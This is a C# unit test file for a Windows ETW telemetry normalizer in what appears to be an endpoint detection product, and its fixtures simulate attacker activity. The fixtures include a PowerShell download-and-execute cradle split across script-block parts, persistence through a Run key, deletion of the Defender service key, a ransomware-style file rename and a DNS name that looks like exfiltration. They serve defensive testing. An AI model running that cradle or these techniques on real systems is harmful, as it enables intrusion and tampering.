using System;
using System.Collections.Generic;
using System.Linq;
using BehaviorBlocking.Detections;
using BehaviorBlocking.Events;
using BehaviorBlocking.Sensors.Windows;
using BehaviorBlocking.Sensors.Windows.Etw;

namespace BehaviorBlocking.Tests.Sensors.Windows.Etw
{
    /// <summary>Synthetic ETW records of every kind through the sensor's two normalizers, as the live callback would hand them over.</summary>
    public class EtwRecordNormalizerTests
    {
        internal static readonly DateTimeOffset T0 = new DateTimeOffset(2026, 12, 2, 5, 40, 1, 250, TimeSpan.Zero);
        internal const string Volume = @"\Device\HarddiskVolume3";
        internal const string Sid = "S-1-5-21-1004336348-1177238915-682003330-1001";

        private readonly EtwRecordNormalizer _etw = New();
        private readonly WindowsEventNormalizer _events = new WindowsEventNormalizer();

        internal static EtwRecordNormalizer New(Func<string, string?>? hash = null, int maxProcesses = 16384, int maxPendingScriptBlocks = 256) =>
            new EtwRecordNormalizer(new EtwRecordNormalizerOptions
            {
                Computer = "WS01",
                BootKey = "WS01/177",
                DeviceMap = new[]
                {
                    new KeyValuePair<string, string>(@"\Device\HarddiskVolume1", "D:"),
                    new KeyValuePair<string, string>(Volume, "C:"),
                },
                SystemRoot = @"C:\Windows",
                ResolveAccount = sid => sid == Sid ? @"EXAMPLE\alice" : sid == "S-1-5-18" ? @"NT AUTHORITY\SYSTEM" : null,
                HashImage = hash,
                MaxProcesses = maxProcesses,
                MaxPendingScriptBlocks = maxPendingScriptBlocks,
            });

        internal static EtwRecord Start(int pid, int parent, string image, string commandLine, double seconds = 0, string sid = Sid) => new EtwRecord
        {
            Kind = EtwRecordKind.ProcessStart,
            Time = T0.AddSeconds(seconds),
            ProcessId = pid,
            ParentProcessId = parent,
            SessionId = 1,
            Image = Volume + image,
            CommandLine = commandLine,
            UserSid = sid,
        };

        private List<BehaviorEvent> Feed(params EtwRecord[] records) => Feed(_etw, records);

        internal List<BehaviorEvent> Feed(EtwRecordNormalizer etw, params EtwRecord[] records)
        {
            var output = new List<EventRecord>();
            foreach (EtwRecord record in records)
            {
                etw.Normalize(record, output);
            }

            return output.Select(_events.Normalize).ToList();
        }

        [Fact]
        public void ProcessStart_IsSysmonEvent1OnTheProductChannelWithParentUserAndDosPaths()
        {
            List<BehaviorEvent> events = Feed(
                Start(3120, 900, @"\Windows\System32\wscript.exe", @"wscript.exe C:\Users\alice\Downloads\doc.vbs"),
                Start(4412, 3120, @"\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -enc SQBFAFgA", seconds: 1));

            Assert.Equal(2, events.Count);
            BehaviorEvent parent = events[0];
            BehaviorEvent child = events[1];
            Assert.Equal(EventKind.ProcessStart, child.Kind);
            Assert.Equal(DetectionPlatform.Win32, child.Platform);
            Assert.Equal(WindowsEtwEvents.Channel, child.Channel);
            Assert.Equal(1, child.EventId);
            Assert.Equal(T0.AddSeconds(1), child.Time);
            Assert.Equal("WS01", child.Host);
            Assert.Equal(4412, child.ProcessId);
            Assert.Equal(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", child.Image);
            Assert.Equal("powershell.exe -enc SQBFAFgA", child.CommandLine);
            Assert.Equal(@"EXAMPLE\alice", child.User);
            Assert.Equal(3120, child.ParentProcessId);
            Assert.Equal(@"C:\Windows\System32\wscript.exe", child.ParentImage);
            Assert.Equal(@"wscript.exe C:\Users\alice\Downloads\doc.vbs", child.ParentCommandLine);
            Assert.NotNull(child.ProcessGuid);
            Assert.Equal(parent.ProcessGuid, child.ParentProcessGuid);
            Assert.NotEqual(parent.ProcessGuid, child.ProcessGuid);
            Assert.Contains(child.Fields, f => f.Key == "TerminalSessionId" && f.Value == "1");
            Assert.Contains(child.Fields, f => f.Key == "ParentUser" && f.Value == @"EXAMPLE\alice");
        }

        [Fact]
        public void ProcessGuid_DependsOnPidStartTimeAndBootSoAReusedPidIsANewProcess()
        {
            Guid first = WindowsProcessGuid.For("boot-a", 4412, T0.ToFileTime());
            Assert.Equal(first, WindowsProcessGuid.For("boot-a", 4412, T0.ToFileTime()));
            Assert.NotEqual(first, WindowsProcessGuid.For("boot-a", 4412, T0.AddTicks(1).ToFileTime()));
            Assert.NotEqual(first, WindowsProcessGuid.For("boot-a", 4413, T0.ToFileTime()));
            Assert.NotEqual(first, WindowsProcessGuid.For("boot-b", 4412, T0.ToFileTime()));

            List<BehaviorEvent> events = Feed(
                Start(500, 4, @"\Windows\System32\cmd.exe", "cmd"),
                new EtwRecord { Kind = EtwRecordKind.ProcessStop, Time = T0.AddSeconds(1), ProcessId = 500 },
                Start(500, 4, @"\Windows\System32\notepad.exe", "notepad", seconds: 2));
            Assert.Equal(EventKind.ProcessExit, events[1].Kind);
            Assert.Equal(events[0].ProcessGuid, events[1].ProcessGuid);
            Assert.NotEqual(events[0].ProcessGuid, events[2].ProcessGuid);
        }

        [Fact]
        public void ProcessStart_WithAHasher_CarriesSha256OfTheDosPath()
        {
            var asked = new List<string>();
            EtwRecordNormalizer etw = New(hash: path =>
            {
                asked.Add(path);
                return new string('A', 64);
            });

            BehaviorEvent e = Assert.Single(Feed(etw, Start(77, 4, @"\Users\Public\payload.exe", "payload.exe")));
            Assert.Equal("SHA256=" + new string('A', 64), e.Hashes);
            Assert.Equal(new[] { @"C:\Users\Public\payload.exe" }, asked);
        }

        [Fact]
        public void ProcessRundown_WritesNothingButLaterEventsOfThatProcessCarryItsImageAndUser()
        {
            List<BehaviorEvent> events = Feed(
                new EtwRecord { Kind = EtwRecordKind.ProcessRundown, Time = T0, ProcessId = 880, ParentProcessId = 600, Image = Volume + @"\Windows\System32\svchost.exe", CommandLine = "svchost.exe -k netsvcs", UserSid = "S-1-5-18" },
                new EtwRecord { Kind = EtwRecordKind.TcpConnect, Time = T0.AddSeconds(1), ProcessId = 880, SourceIp = "10.0.0.5", SourcePort = 50000, DestinationIp = "203.0.113.9", DestinationPort = 443 });

            BehaviorEvent e = Assert.Single(events);
            Assert.Equal(EventKind.NetworkConnect, e.Kind);
            Assert.Equal(@"C:\Windows\System32\svchost.exe", e.Image);
            Assert.Equal(@"NT AUTHORITY\SYSTEM", e.User);
        }

        [Fact]
        public void ProcessStop_IsEvent5AndForgetsTheProcess()
        {
            EtwRecordNormalizer etw = New();
            List<BehaviorEvent> events = Feed(etw,
                Start(900, 4, @"\Windows\System32\cmd.exe", "cmd"),
                new EtwRecord { Kind = EtwRecordKind.ProcessStop, Time = T0.AddSeconds(3), ProcessId = 900, ExitCode = 1 });

            Assert.Equal(EventKind.ProcessExit, events[1].Kind);
            Assert.Equal(5, events[1].EventId);
            Assert.Equal(@"C:\Windows\System32\cmd.exe", events[1].Image);
            Assert.Equal(0, etw.ProcessCount);
        }

        [Fact]
        public void Processes_AreBoundedByTheirLimit()
        {
            EtwRecordNormalizer etw = New(maxProcesses: 8);
            for (int pid = 1; pid <= 100; pid++)
            {
                Feed(etw, Start(pid * 4, 4, @"\Windows\System32\cmd.exe", "cmd"));
            }

            Assert.Equal(8, etw.ProcessCount);
        }

        [Fact]
        public void ImageLoad_IsEvent7WithTheLoadedImageAndCompletesAShortProcessImage()
        {
            List<BehaviorEvent> events = Feed(
                new EtwRecord { Kind = EtwRecordKind.ProcessStart, Time = T0, ProcessId = 42, ParentProcessId = 4, Image = "rundll32.exe", CommandLine = "rundll32 x.dll,Run" },
                new EtwRecord { Kind = EtwRecordKind.ImageLoad, Time = T0.AddSeconds(1), ProcessId = 42, Path = Volume + @"\Windows\System32\rundll32.exe" },
                new EtwRecord { Kind = EtwRecordKind.ImageLoad, Time = T0.AddSeconds(2), ProcessId = 42, Path = @"\SystemRoot\System32\ntdll.dll" },
                new EtwRecord { Kind = EtwRecordKind.ImageLoad, Time = T0.AddSeconds(3), ProcessId = 42, Path = @"\Device\HarddiskVolume1\tools\x.dll" });

            Assert.Equal("rundll32.exe", events[0].Image);
            Assert.Equal(EventKind.ImageLoad, events[1].Kind);
            Assert.Equal(7, events[1].EventId);
            Assert.Equal(@"C:\Windows\System32\rundll32.exe", events[1].TargetPath);
            Assert.Equal(@"C:\Windows\System32\rundll32.exe", events[2].Image);
            Assert.Equal(@"C:\Windows\System32\ntdll.dll", events[2].TargetPath);
            Assert.Equal(@"D:\tools\x.dll", events[3].TargetPath);
            Assert.Equal(events[0].ProcessGuid, events[3].ProcessGuid);
        }

        [Fact]
        public void FileCreate_IsEvent11OnlyWhenTheOperationEndSaysAFileWasCreatedOrOverwritten()
        {
            List<BehaviorEvent> events = Feed(
                Start(300, 4, @"\Program Files\Microsoft Office\OUTLOOK.EXE", "OUTLOOK.EXE"),
                Create(irp: 1, fileObject: 11, @"\Users\alice\AppData\Local\Temp\a.iso", disposition: 2),
                End(irp: 1, information: 2, status: 0),
                Create(irp: 2, fileObject: 12, @"\Users\alice\exists.txt", disposition: 3),
                End(irp: 2, information: 1, status: 0),
                Create(irp: 3, fileObject: 13, @"\Users\alice\denied.txt", disposition: 2),
                End(irp: 3, information: 2, status: unchecked((int)0xC0000022)),
                Create(irp: 4, fileObject: 14, @"\Users\alice\newdir", disposition: 2, options: 0x1),
                End(irp: 4, information: 2, status: 0),
                Create(irp: 5, fileObject: 15, @"\Users\alice\opened.txt", disposition: 1),
                End(irp: 5, information: 1, status: 0),
                Create(irp: 6, fileObject: 16, @"\Users\alice\over.txt", disposition: 5),
                End(irp: 6, information: 3, status: 0));

            Assert.Equal(new[] { @"C:\Users\alice\AppData\Local\Temp\a.iso", @"C:\Users\alice\over.txt" },
                events.Where(e => e.Kind == EventKind.FileCreate).Select(e => e.TargetPath));
            BehaviorEvent created = events.First(e => e.Kind == EventKind.FileCreate);
            Assert.Equal(11, created.EventId);
            Assert.Equal(300, created.ProcessId);
            Assert.Equal(@"C:\Program Files\Microsoft Office\OUTLOOK.EXE", created.Image);
        }

        [Fact]
        public void FileWrite_IsOneEvent11PerHandleResolvedThroughFileKeyOrObjectNames()
        {
            List<BehaviorEvent> events = Feed(
                new EtwRecord { Kind = EtwRecordKind.FileName, Time = T0, FileKey = 0xAA, Path = Volume + @"\Windows\System32\drivers\etc\hosts" },
                new EtwRecord { Kind = EtwRecordKind.FileWrite, Time = T0.AddSeconds(1), ProcessId = 10, FileObject = 0x1, FileKey = 0xAA },
                new EtwRecord { Kind = EtwRecordKind.FileWrite, Time = T0.AddSeconds(2), ProcessId = 10, FileObject = 0x1, FileKey = 0xAA },
                Create(irp: 9, fileObject: 0x2, @"\Users\alice\notes.txt", disposition: 3, pid: 10),
                new EtwRecord { Kind = EtwRecordKind.FileWrite, Time = T0.AddSeconds(3), ProcessId = 10, FileObject = 0x2 },
                new EtwRecord { Kind = EtwRecordKind.FileWrite, Time = T0.AddSeconds(4), ProcessId = 10, FileObject = 0x3 },
                new EtwRecord { Kind = EtwRecordKind.FileWrite, Time = T0.AddSeconds(5), ProcessId = 10, FileObject = 0x4, Path = Volume + @"\x.bin" });

            Assert.Equal(new[] { @"C:\Windows\System32\drivers\etc\hosts", @"C:\Users\alice\notes.txt", @"C:\x.bin" },
                events.Select(e => e.TargetPath));
            Assert.All(events, e => Assert.Equal(EventKind.FileCreate, e.Kind));
        }

        [Fact]
        public void FileDelete_IsEvent23AndRename1001WithOldAndNewNames()
        {
            List<BehaviorEvent> events = Feed(
                new EtwRecord { Kind = EtwRecordKind.FileName, Time = T0, FileKey = 0xBB, Path = Volume + @"\backup\db.bak" },
                new EtwRecord { Kind = EtwRecordKind.FileDelete, Time = T0.AddSeconds(1), ProcessId = 20, FileObject = 0x9, FileKey = 0xBB },
                new EtwRecord { Kind = EtwRecordKind.FileRename, Time = T0.AddSeconds(2), ProcessId = 20, FileKey = 0xCC, Path = Volume + @"\docs\a.docx", NewPath = Volume + @"\docs\a.docx.locked" },
                new EtwRecord { Kind = EtwRecordKind.FileDelete, Time = T0.AddSeconds(3), ProcessId = 20, FileKey = 0xCC });

            Assert.Equal(EventKind.FileDelete, events[0].Kind);
            Assert.Equal(23, events[0].EventId);
            Assert.Equal(@"C:\backup\db.bak", events[0].TargetPath);
            Assert.Equal(EventKind.FileRename, events[1].Kind);
            Assert.Equal(WindowsEtwEvents.FileRename, events[1].EventId);
            Assert.Equal(@"C:\docs\a.docx", events[1].TargetPath);
            Assert.Equal(@"C:\docs\a.docx.locked", events[1].TargetName);
            Assert.Equal(@"C:\docs\a.docx.locked", events[2].TargetPath);
        }

        [Fact]
        public void FileEvents_WithNoNameAnywhere_AreSkippedAndCounted()
        {
            EtwRecordNormalizer etw = New();
            Assert.Empty(Feed(etw, new EtwRecord { Kind = EtwRecordKind.FileDelete, Time = T0, ProcessId = 1, FileObject = 0x77 }));
            Assert.Equal(1, etw.Unresolved);
        }

        [Fact]
        public void Registry_KernelNamesBecomeSysmonTargetObjectsWithEventTypes()
        {
            List<BehaviorEvent> events = Feed(
                new EtwRecord { Kind = EtwRecordKind.RegistryKeyName, Time = T0, KeyHandle = 0xF1, Path = @"\REGISTRY\USER\" + Sid + @"\Software\Microsoft\Windows\CurrentVersion" },
                new EtwRecord { Kind = EtwRecordKind.RegistryCreateKey, Time = T0.AddSeconds(1), ProcessId = 30, Path = @"\REGISTRY\MACHINE\SOFTWARE\Evil" },
                new EtwRecord { Kind = EtwRecordKind.RegistrySetValue, Time = T0.AddSeconds(2), ProcessId = 30, KeyHandle = 0xF1, Path = "Run", ValueName = "Updater" },
                new EtwRecord { Kind = EtwRecordKind.RegistryDeleteValue, Time = T0.AddSeconds(3), ProcessId = 30, Path = @"\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\EventLog", ValueName = "" },
                new EtwRecord { Kind = EtwRecordKind.RegistryDeleteKey, Time = T0.AddSeconds(4), ProcessId = 30, Path = @"\REGISTRY\MACHINE\SYSTEM\ControlSet002\Services\WinDefend" },
                new EtwRecord { Kind = EtwRecordKind.RegistrySetValue, Time = T0.AddSeconds(5), ProcessId = 30, Path = @"\REGISTRY\MACHINE\SOFTWARE\Denied", ValueName = "x", Status = unchecked((int)0xC0000022) });

            Assert.Equal(4, events.Count);
            Assert.Equal((EventKind.RegistryCreate, 12, @"HKLM\SOFTWARE\Evil"), (events[0].Kind, events[0].EventId, events[0].TargetPath));
            Assert.Equal((EventKind.RegistrySet, 13, @"HKU\" + Sid + @"\Software\Microsoft\Windows\CurrentVersion\Run\Updater"), (events[1].Kind, events[1].EventId, events[1].TargetPath));
            Assert.Equal((EventKind.RegistryDelete, 12, @"HKLM\System\CurrentControlSet\Services\EventLog\(Default)"), (events[2].Kind, events[2].EventId, events[2].TargetPath));
            Assert.Equal((EventKind.RegistryDelete, 12, @"HKLM\System\CurrentControlSet\Services\WinDefend"), (events[3].Kind, events[3].EventId, events[3].TargetPath));
            Assert.Contains(events[0].Fields, f => f.Key == "EventType" && f.Value == "CreateKey");
            Assert.Contains(events[1].Fields, f => f.Key == "EventType" && f.Value == "SetValue");
            Assert.Contains(events[2].Fields, f => f.Key == "EventType" && f.Value == "DeleteValue");
            Assert.Contains(events[3].Fields, f => f.Key == "EventType" && f.Value == "DeleteKey");
        }

        [Fact]
        public void Tcp_ConnectAndAcceptV4AndV6_AreEvent3WithLocalAsSourceAndDirection()
        {
            List<BehaviorEvent> events = Feed(
                new EtwRecord { Kind = EtwRecordKind.TcpConnect, Time = T0, ProcessId = 40, SourceIp = "10.0.0.5", SourcePort = 50234, DestinationIp = "198.51.100.7", DestinationPort = 4444 },
                new EtwRecord { Kind = EtwRecordKind.TcpAccept, Time = T0.AddSeconds(1), ProcessId = 41, SourceIp = "fe80::1", SourcePort = 3389, DestinationIp = "fe80::2", DestinationPort = 61000, IsIpv6 = true });

            Assert.Equal((EventKind.NetworkConnect, 3, true, "tcp"), (events[0].Kind, events[0].EventId, events[0].Initiated, events[0].Protocol));
            Assert.Equal(("10.0.0.5", 50234, "198.51.100.7", 4444), (events[0].SourceIp, events[0].SourcePort, events[0].DestinationIp, events[0].DestinationPort));
            Assert.Equal((false, "fe80::1", 3389, "fe80::2", 61000), (events[1].Initiated, events[1].SourceIp, events[1].SourcePort, events[1].DestinationIp, events[1].DestinationPort));
            Assert.Contains(events[1].Fields, f => f.Key == "SourceIsIpv6" && f.Value == "true");
            Assert.Contains(events[0].Fields, f => f.Key == "DestinationIsIpv6" && f.Value == "false");
        }

        [Fact]
        public void ScriptBlock_PartsAreReassembledInOrderWhateverOrderTheyArriveIn()
        {
            const string id = "5d0c7a51-2f0e-4b7e-9a44-1c3f7e2b9a10";
            List<BehaviorEvent> events = Feed(
                Start(4412, 3120, @"\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe"),
                Part(4412, id, 2, 3, "Object Net.Web"),
                Part(4412, id, 1, 3, "IEX (New-"),
                Part(4412, "other-block", 1, 1, "Get-Date"),
                Part(4412, id, 3, 3, "Client).DownloadString('http://x')"));

            BehaviorEvent[] blocks = events.Where(e => e.Kind == EventKind.ScriptBlock).ToArray();
            Assert.Equal(2, blocks.Length);
            Assert.Equal("Get-Date", blocks[0].Details);
            Assert.Equal("IEX (New-Object Net.WebClient).DownloadString('http://x')", blocks[1].Details);
            Assert.Equal(PowerShellEventMapperChannel, blocks[1].Channel);
            Assert.Equal(4104, blocks[1].EventId);
            Assert.Equal(id, blocks[1].TargetName);
            Assert.Equal(4412, blocks[1].ProcessId);
            Assert.Equal(events[0].ProcessGuid, blocks[1].ProcessGuid);
            Assert.Equal(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", blocks[1].Image);
            Assert.Contains(blocks[1].Fields, f => f.Key == "MessageTotal" && f.Value == "1");
        }

        [Fact]
        public void ScriptBlock_TheSameIdInTwoProcessesIsTwoBlocksAndAnIncompleteOneEvictedIsCounted()
        {
            EtwRecordNormalizer etw = New(maxPendingScriptBlocks: 1);
            List<BehaviorEvent> events = Feed(etw,
                Part(1, "b", 1, 2, "A1"),
                Part(2, "b", 1, 2, "B1"),
                Part(2, "b", 2, 2, "B2"),
                Part(1, "b", 2, 2, "A2"));

            BehaviorEvent block = Assert.Single(events);
            Assert.Equal("B1B2", block.Details);
            Assert.Equal(1, etw.IncompleteScriptBlocks);
        }

        [Fact]
        public void Dns_QueryCompletedIsEvent22WithNameStatusAndAnswers()
        {
            BehaviorEvent e = Assert.Single(Feed(new EtwRecord
            {
                Kind = EtwRecordKind.DnsQuery, Time = T0, ProcessId = 7720,
                QueryName = "MZWGCZ33ORUWG2LBNZQW4ZDSMVZXI4ZAMFXGIIDXN5ZGIZLSON2GS3THEB.lookup-cdn.net",
                QueryResults = "type:  5 edge.lookup-cdn.net;::ffff:203.0.113.5;", Status = 0,
            }));

            Assert.Equal((EventKind.DnsQuery, 22), (e.Kind, e.EventId));
            Assert.Equal("MZWGCZ33ORUWG2LBNZQW4ZDSMVZXI4ZAMFXGIIDXN5ZGIZLSON2GS3THEB.lookup-cdn.net", e.TargetName);
            Assert.Equal("type:  5 edge.lookup-cdn.net;::ffff:203.0.113.5;", e.Details);
            Assert.Contains(e.Fields, f => f.Key == "QueryStatus" && f.Value == "0");
            Assert.Equal(7720, e.ProcessId);
        }

        [Fact]
        public void EveryKind_ProducesOnlyEventsOfTheProductOrPowerShellChannelAndUnknownActorsGetAStableGuid()
        {
            List<BehaviorEvent> events = Feed(
                new EtwRecord { Kind = EtwRecordKind.ImageLoad, Time = T0, ProcessId = 999, Path = Volume + @"\a.dll" },
                new EtwRecord { Kind = EtwRecordKind.ImageLoad, Time = T0.AddSeconds(1), ProcessId = 999, Path = Volume + @"\b.dll" });

            Assert.All(events, e => Assert.Equal(WindowsEtwEvents.Channel, e.Channel));
            Assert.Null(events[0].Image);
            Assert.Equal(events[0].ProcessGuid, events[1].ProcessGuid);
        }

        private const string PowerShellEventMapperChannel = "Microsoft-Windows-PowerShell/Operational";

        private static EtwRecord Create(ulong irp, ulong fileObject, string path, int disposition, int options = 0, int pid = 300) => new EtwRecord
        {
            Kind = EtwRecordKind.FileCreate, Time = T0, ProcessId = pid, IrpPtr = irp, FileObject = fileObject, Path = Volume + path,
            CreateDisposition = disposition, CreateOptions = options,
        };

        private static EtwRecord End(ulong irp, ulong information, int status) => new EtwRecord
        {
            Kind = EtwRecordKind.FileOperationEnd, Time = T0.AddMilliseconds(5), ProcessId = -1, IrpPtr = irp, Information = information, Status = status,
        };

        internal static EtwRecord Part(int pid, string id, int number, int total, string text) => new EtwRecord
        {
            Kind = EtwRecordKind.ScriptBlockPart, Time = T0.AddSeconds(number), ProcessId = pid, ScriptBlockId = id, MessageNumber = number, MessageTotal = total, Text = text,
        };
    }
}
